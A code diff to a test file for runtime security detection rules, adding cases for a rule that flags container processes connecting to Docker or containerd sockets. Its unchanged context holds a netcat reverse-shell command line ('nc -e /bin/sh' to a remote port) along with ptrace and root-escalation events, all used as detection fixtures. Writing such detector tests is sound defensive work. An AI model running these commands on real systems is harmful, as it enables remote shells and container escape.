@@ -116,6 +116,12 @@ test('the default rules match what they are about, and not the ordinary', () => 
   assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 7, comm: 'nc', exe: '/usr/bin/nc', argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] } })), ['Netcat remote code execution']);
   assert.deepEqual(matching(set, event('exec', {}, { process: { pid: 7, comm: 'nc', exe: '/usr/bin/nc', argv: ['nc', '-z', 'host', '80'] } })), []);
   assert.deepEqual(matching(set, event('ptrace', { request: 'PTRACE_ATTACH', targetPid: 77, ret: 0 })), ['Process attached with ptrace']);
+  // A container reaching for a runtime's API socket (mounted into it), whether or not the connect worked.
+  const sock = (address: string, where: object = ctr, ret = 0) => event('connect', { family: 'AF_UNIX', remoteAddress: address, ret }, { ...where, process: { pid: 9, comm: 'curl' } });
+  assert.deepEqual(matching(set, sock('/var/run/docker.sock')), ['Container runtime socket connected from a container']);
+  assert.deepEqual(matching(set, sock('/run/containerd/containerd.sock', ctr, -2)), ['Container runtime socket connected from a container'], 'looking for it');
+  assert.deepEqual(matching(set, sock('/run/app/app.sock')), [], 'another socket');
+  assert.deepEqual(matching(set, sock('/var/run/docker.sock', {})), [], 'the host: docker\'s own CLI');
   assert.deepEqual(matching(set, event('ptrace', { request: 'PTRACE_TRACEME', ret: 0 })), []);
   const creds = (oldEuid: number, comm: string) => event('creds', { syscall: 'setresuid', old: { uid: 1000, euid: oldEuid }, new: { uid: 0, euid: 0 } }, { process: { pid: 8, comm } });
   assert.deepEqual(matching(set, creds(1000, 'exploit')), ['Root privileges gained']);
